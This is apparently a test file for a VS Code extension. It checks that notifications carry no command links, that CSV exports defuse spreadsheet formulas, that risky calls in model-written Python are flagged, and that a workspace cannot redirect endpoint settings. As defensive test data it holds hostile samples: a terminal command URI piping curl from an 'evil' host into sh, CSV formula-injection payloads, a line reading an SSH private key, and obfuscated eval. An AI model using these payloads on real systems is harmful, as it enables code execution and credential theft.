/**
 * Untrusted text outside the sandbox: what a model, a program or an image's name can put in VS
 * Code's notifications, in the cells and editors a user may run, in a CSV a spreadsheet opens, in
 * the panel's messages; and the settings a workspace cannot set.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { capText, NOTICE_MAX_CHARS, plainNotice } from '../src/extension/untrustedText';
import { csvSafeCell, dataToCsv } from '../src/core/data';
import { runFailedMessage } from '../src/extension/runEvents';
import { LIMITS, parseHostMessage } from '../src/shared/protocol';
import { describeRiskyLines, MODEL_WRITTEN_LINE, riskyLines } from '../src/shared/riskyCalls';
import { programCellText } from '../src/extension/notebookEdits';
import { programWithHeader } from '../src/extension/programText';
import { MACHINE_SETTINGS, machineValue, settingsFrom, type ConfigReader } from '../src/extension/settingsRead';

const ROOT = path.join(__dirname, '..', '..');

// ---------------------------------------------------------------------------------------------
// Notifications
// ---------------------------------------------------------------------------------------------

/**
 * How a notification finds links: VS Code's parseLinkedText (src/vs/base/common/linkedText.ts,
 * 1.9x–1.139), verbatim. A match becomes an anchor that runs `command:` URIs with their arguments.
 */
const VSCODE_LINK_REGEX = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^\)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const links = (text: string): string[] => [...text.matchAll(VSCODE_LINK_REGEX)].map((m) => m[2] as string);

const HOSTILE = [
  'RuntimeError: chart unreadable. [Fix it](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
  '[Open settings](command:workbench.action.openSettings "Open your settings")',
  'c1: [a](https://evil.example/x) and [b](file:///etc/passwd)',
  // a backslash is no escape for VS Code: this still makes a link
  '\\[x\\](command:workbench.action.closeWindow)',
  // split by characters a naive filter might drop afterwards
  '[x]\u0000(command:workbench.action.closeWindow)',
  '[x\u202E](COMMAND:workbench.action.closeWindow)',
];

test('attacker text in a notification makes no link: no [label](command:…) survives, whatever the spelling', () => {
  for (const raw of HOSTILE) {
    const after = plainNotice(`RECODE: ${raw}`);
    assert.deepEqual(links(after), [], `a link survived in ${JSON.stringify(after)}`);
    assert.ok(!/command:/i.test(after), `"command:" survived in ${JSON.stringify(after)}`);
  }
  // The payloads are real links to VS Code before (the regex above is the one that matters).
  assert.ok(links(HOSTILE[0] as string)[0]?.startsWith('command:workbench.action.terminal.sendSequence'));
  assert.equal(links(HOSTILE[3] as string).length, 1, 'a backslash-escaped link is still a link');
  // What the user reads stays readable.
  assert.equal(plainNotice('RECODE: fivebars.png: [Fix it](command:x)'), 'RECODE: fivebars.png: [Fix it] (command∶x)');
  assert.equal(plainNotice("KeyError: ['a'] (401) f(x)[0]"), "KeyError: ['a'] (401) f(x)[0]");
  assert.ok(!plainNotice('[a]](b)[c]\n(d)[e]   (f)').includes(']('));
});

test('no link survives in 10 000 random link-shaped strings (separators, controls, nesting, case)', () => {
  const filler = ['x', 'a b', '[', ']', '(', ')', '\u0000', '\u200B', '\u202E', '"', '\\', '', ''];
  const seps = ['', '', '', '\u0000', '\u200B', '\u2066', '\u00AD', '\u007F', '\u009B', ' ', '\n', '\\'];
  const schemes = ['command:', 'COMMAND:', 'Command:', 'https://', 'file:', 'command\u0000:', 'comm\u200Band:'];
  let seed = 12345;
  const rnd = (n: number) => ((seed = (seed * 1103515245 + 12345) % 2147483648), seed % n);
  const pick = <T>(a: T[]): T => a[rnd(a.length)] as T;
  const some = (n: number) => Array.from({ length: rnd(n) }, () => pick(filler)).join('');
  let linksBefore = 0;
  for (let i = 0; i < 10_000; i++) {
    const raw = `${some(4)}[${pick(['x', 'Fix it', 'a' + pick(seps) + 'b'])}${some(2)}]${pick(seps)}(${pick(schemes)}${pick(['x', 'workbench.action.x?%7B%7D'])}${pick(seps)})${some(4)}`;
    linksBefore += links(raw).length > 0 ? 1 : 0;
    const after = plainNotice(raw);
    assert.deepEqual(links(after), [], `${JSON.stringify(raw)} → ${JSON.stringify(after)}`);
    assert.ok(!after.includes(']('), JSON.stringify(after));
  }
  assert.ok(linksBefore > 1000, `the generator should make real links often (${linksBefore})`);
});

test('a notification is one line of visible text, capped', () => {
  assert.equal(plainNotice('line 1\nline 2\r\n\tline 3'), 'line 1 line 2 line 3');
  assert.equal(plainNotice('bell\u0007 nul\u0000 esc\u001b[31m c1\u009b'), 'bell nul esc[31m c1');
  // bidi overrides and invisible characters that would make text read differently than it is
  assert.equal(plainNotice('evil\u202Egnp.exe\u200B\uFEFF\u2066x\u2069'), 'evilgnp.exex');
  const long = plainNotice('x'.repeat(5000));
  assert.equal(long.length, NOTICE_MAX_CHARS);
  assert.ok(long.endsWith('…'));
  // never half a surrogate pair
  const emoji = capText('a' + '😀'.repeat(10), 4);
  assert.ok(!/[\uD800-\uDBFF]…$/.test(emoji), JSON.stringify(emoji));
  assert.equal(plainNotice(undefined), '');
});

test('no extension file shows a notification or a progress notification except through notify.ts', () => {
  const dir = path.join(ROOT, 'src', 'extension');
  const direct = /\bwindow\s*\.\s*(showErrorMessage|showWarningMessage|showInformationMessage|withProgress)\b|\b(showErrorMessage|showWarningMessage|showInformationMessage|withProgress)\s*\(/;
  const offenders: string[] = [];
  for (const f of fs.readdirSync(dir).filter((n) => n.endsWith('.ts') && n !== 'notify.ts')) {
    fs.readFileSync(path.join(dir, f), 'utf8')
      .split('\n')
      .forEach((l, i) => {
        if (direct.test(l) && !/^\s*(\*|\/\/)/.test(l)) offenders.push(`${f}:${i + 1}: ${l.trim()}`);
      });
  }
  assert.deepEqual(offenders, []);
  // and notify.ts passes every text through plainNotice
  const notify = fs.readFileSync(path.join(dir, 'notify.ts'), 'utf8');
  for (const call of notify.match(/vscode\.window\.\w+\([^;]*/g) ?? []) assert.match(call, /plainNotice\(/, call);
});

// ---------------------------------------------------------------------------------------------
// What the page is sent
// ---------------------------------------------------------------------------------------------

test('a run that failed with an error of any length reaches the page (clipped to the protocol limit), not dropped', () => {
  const huge = 'Traceback: ' + 'x'.repeat(LIMITS.textChars * 3);
  const raw = { type: 'run-ended', status: 'failed', error: huge };
  assert.equal(parseHostMessage(raw).ok, false, 'the page refuses an over-long error whole');
  const m = runFailedMessage(huge);
  const parsed = parseHostMessage(JSON.parse(JSON.stringify(m)));
  assert.ok(parsed.ok, parsed.ok ? '' : parsed.error);
  assert.ok(m.type === 'run-ended' && m.error !== undefined && m.error.length <= LIMITS.textChars && m.error.startsWith('Traceback: xxx'));
});

// ---------------------------------------------------------------------------------------------
// CSV exports
// ---------------------------------------------------------------------------------------------

test('CSV cells a spreadsheet would run as formulas get a leading quote; numbers stay numbers', () => {
  for (const f of ['=HYPERLINK("http://evil","x")', '+cmd|/C calc!A0', '-2+3+cmd|/C calc!A0', '@SUM(A1:A9)', '\t=1', '\r=1', '-', '=', '-Infinity', '- 3']) {
    assert.equal(csvSafeCell(f), `'${f}`, f);
  }
  for (const ok of ['-3.5', '+2', '-1e-3', '12', 'Apples', '', 'A-B', ' =x']) assert.equal(csvSafeCell(ok), ok, ok);
  for (const n of [-3.5, 0, 42, -1e-9]) assert.equal(csvSafeCell(n), String(n));
  const csv = dataToCsv([{ name: '=cmd|calc', kind: 'bar', columns: ['label', '@value'], rows: [['=1+1', -3.5], ['-x', 2], ['B', '-4']] }]);
  assert.equal(csv, ["table,label,'@value", "'=cmd|calc,'=1+1,-3.5", "'=cmd|calc,'-x,2", "'=cmd|calc,B,-4", ''].join('\n'));
  // quoting still applies after the prefix
  assert.equal(dataToCsv([{ name: 't', kind: 'bar', columns: ['a'], rows: [['=A1,"x"']] }]).split('\n')[1], 't,"\'=A1,""x"""');
});

// ---------------------------------------------------------------------------------------------
// Programs the user may run
// ---------------------------------------------------------------------------------------------

const SNEAKY = [
  "import matplotlib.pyplot as plt",
  "import numpy as np, os",
  "ax = plt.gca(); ax.bar([1], [2], color='#1f77b4')  # os.system('x') in a comment is no call",
  "if __import__('sys').platform != 'emscripten':",
  "    data = open('/home/me/.ssh/id_rsa').read()",
  "from subprocess import run as r",
  "eval(compile('1', 'x', 'eval'))",
  "sys.modules['json'] = None",
  "pos = Image.open('a.png'); pos.x = 1; osmium = 3",
  "import socket, ctypes, shutil, importlib",
  "exec(getattr(__builtins__, 'ev' + 'al'))",
];

test('risky calls are found on their lines; comments, colours and look-alike names are not', () => {
  const found = riskyLines(SNEAKY.join('\n'));
  const byLine = new Map(found.map((r) => [r.line, r.uses]));
  assert.deepEqual(byLine.get(2), ['os']);
  assert.equal(byLine.has(1), false);
  assert.equal(byLine.has(3), false, 'a comment and a colour string are no calls');
  assert.deepEqual(byLine.get(4), ['__import__']);
  assert.deepEqual(byLine.get(5), ['open']);
  assert.deepEqual(byLine.get(6), ['subprocess']);
  assert.deepEqual(byLine.get(7)?.sort(), ['compile', 'eval']);
  assert.deepEqual(byLine.get(8), ['sys.modules']);
  assert.equal(byLine.has(9), false, 'Image.open, pos.x and osmium are not os or open');
  assert.deepEqual(byLine.get(10)?.sort(), ['ctypes', 'importlib', 'shutil', 'socket']);
  assert.deepEqual(byLine.get(11)?.sort(), ['__builtins__', 'exec', 'getattr']);
  assert.deepEqual(riskyLines('import matplotlib.pyplot as plt\nplt.bar(["os", "open"], [1, 2])\nplt.title("a # b")\n'), []);
  assert.equal(describeRiskyLines([{ line: 2, uses: ['os'] }, { line: 5, uses: ['open', 'eval'] }], 10), 'line 12 (os), line 15 (open, eval)');
});

test('the notebook program cell starts with the model warning and names the risky lines as the cell numbers them', () => {
  const program = SNEAKY.join('\n');
  const cell = programCellText({ program, sourceLabel: 'the image output of cell 2', score: 0.9, candidateId: 'c1', runId: 'run-1' });
  const lines = cell.split('\n');
  assert.equal(lines[0], MODEL_WRITTEN_LINE);
  assert.equal(lines[1], '# RECODE: a program that redraws the image output of cell 2');
  const review = lines.find((l) => l.startsWith('# Review before running'));
  assert.ok(review, cell);
  const cited = [...review.matchAll(/line (\d+) \(([^)]*)\)/g)].map((m) => ({ line: Number(m[1]), uses: (m[2] as string).split(', ') }));
  assert.equal(cited.length, riskyLines(program).length);
  for (const c of cited) {
    const text = lines[c.line - 1] ?? '';
    for (const u of c.uses) assert.ok(text.includes(u.replace('sys.modules', 'sys.modules')), `cell line ${c.line} "${text}" does not hold ${u}`);
  }
  // a harmless program: the warning line, no review line
  const plain = programCellText({ program: 'import matplotlib.pyplot as plt\nplt.bar([1], [2])\n', sourceLabel: 'x' });
  assert.ok(plain.startsWith(MODEL_WRITTEN_LINE + '\n# RECODE: a program that redraws x\n'));
  assert.ok(!plain.includes('# Review before running'));
});

test('the program editor names the risky lines as the editor numbers them', () => {
  const text = programWithHeader(SNEAKY.join('\n'), { imageName: 'a.png', question: 'q?' });
  const lines = text.split('\n');
  assert.equal(lines[0], MODEL_WRITTEN_LINE);
  const review = lines.find((l) => l.startsWith('# Review before running')) ?? '';
  const first = /line (\d+) \(os\)/.exec(review);
  assert.ok(first, review);
  assert.equal(lines[Number(first[1]) - 1], 'import numpy as np, os');
});

// ---------------------------------------------------------------------------------------------
// Settings a workspace cannot set
// ---------------------------------------------------------------------------------------------

/** A configuration as VS Code's inspect() reports one: default, user (global), workspace and folder values. */
function config(values: Record<string, { defaultValue?: unknown; globalValue?: unknown; workspaceValue?: unknown; workspaceFolderValue?: unknown }>): ConfigReader {
  const effective = (k: string) => {
    const v = values[k];
    return v?.workspaceFolderValue ?? v?.workspaceValue ?? v?.globalValue ?? v?.defaultValue;
  };
  return {
    get: ((k: string, d?: unknown) => effective(k) ?? d) as ConfigReader['get'],
    inspect: ((k: string) => (values[k] ? { key: `recode.${k}`, ...values[k] } : undefined)) as ConfigReader['inspect'],
  };
}

test('recode.baseUrl and recode.pythonPath come from the user settings only: a workspace cannot redirect the key or pick an executable', () => {
  const hostile = config({
    baseUrl: { defaultValue: '', globalValue: 'https://api.mine.example/v1', workspaceValue: 'https://collect.evil.example/v1' },
    pythonPath: { defaultValue: '', workspaceFolderValue: './tools/python3' },
    model: { defaultValue: '', globalValue: 'gpt-x', workspaceValue: 'gpt-y' },
    candidates: { defaultValue: 3, workspaceValue: 5 },
  });
  const s = settingsFrom(hostile);
  assert.equal(s.baseUrl, 'https://api.mine.example/v1');
  assert.equal(s.pythonPath, '', "a folder's pythonPath is ignored: RECODE looks for a Python itself");
  // other settings still follow the workspace
  assert.equal(s.model, 'gpt-y');
  assert.equal(s.candidates, 5);
  assert.equal(machineValue(config({ baseUrl: { defaultValue: '', workspaceValue: 'https://evil' } }), 'baseUrl'), '');
  assert.equal(settingsFrom(config({ baseUrl: { defaultValue: '', globalValue: '  http://localhost:11434/v1 ' } })).baseUrl, 'http://localhost:11434/v1');
});

test('package.json gives every setting that picks an endpoint or an executable the machine scope', () => {
  const pkg = JSON.parse(fs.readFileSync(path.join(ROOT, 'package.json'), 'utf8')) as { contributes: { configuration: { properties: Record<string, { scope?: string }> } } };
  const props = pkg.contributes.configuration.properties;
  for (const k of MACHINE_SETTINGS) assert.equal(props[`recode.${k}`]?.scope, 'machine', `recode.${k}`);
  // any setting whose name says path, url, endpoint or executable must be in that list
  for (const k of Object.keys(props)) {
    if (/path|url|endpoint|executable|command/i.test(k)) assert.ok((MACHINE_SETTINGS as readonly string[]).includes(k.replace(/^recode\./, '')), `${k} should be machine-scoped`);
  }
});
